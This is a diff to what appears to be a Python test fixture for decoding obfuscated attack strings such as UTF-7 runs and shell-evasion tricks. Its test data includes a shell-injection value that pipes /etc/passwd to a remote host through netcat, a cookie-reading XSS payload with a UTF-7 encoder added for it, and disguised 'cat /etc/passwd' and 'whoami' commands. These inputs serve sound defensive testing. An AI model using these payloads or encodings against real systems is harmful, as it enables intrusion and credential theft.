@@ -27,6 +27,8 @@ SHELL = "; cat /etc/passwd | nc 203.0.113.9 4444"
 SIGNS = "<x>??>>~~ÿÿ</x>"
 LONG = f"{XSS} and then {SQL} and then {SHELL}"
 
+COOKIE = "<script>alert(document.cookie)</script>"
+
 Case = tuple[str, "str | bytes", "str | bytes | None"]
 
 
@@ -52,6 +54,11 @@ def overlong(text: str, size: int) -> bytes:
 
 def b64(text: str) -> str:
     return base64.b64encode(text.encode()).decode()
+
+
+def shifted(text: str) -> str:
+    """All of it in one run of UTF-7 (RFC 2152)."""
+    return "+" + base64.b64encode(text.encode("utf-16-be")).decode().rstrip("=") + "-"
 
 
 def deflate(text: str) -> bytes:
@@ -149,6 +156,7 @@ VIEWS: dict[str, list[Case]] = {
         ("codecs.utf_7", "..\\~x".encode("utf-7").decode(), "..\\~x"),
         ("every sign shifted", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<script>alert(1)</script>"),
         ("without the closing hyphen", "+ADw script", "< script"),
+        ("a run as long as it likes", shifted(COOKIE), COOKIE),
         ("a sum", "1+A and 2+B", None),
     ],
     "quoted-printable": [
@@ -205,6 +213,7 @@ VIEWS: dict[str, list[Case]] = {
         ("empty variables", "c$@at /etc/pa$1sswd", "cat /etc/passwd"),
         ("carets of cmd.exe", "p^ing x", "ping x"),
         ("empty commands", "w``hoami", "whoami"),
+        ("an apostrophe quotes nothing", "don't you think it's theirs", None),
         ("no mark", "cat file", None),
     ],
     "concat": [
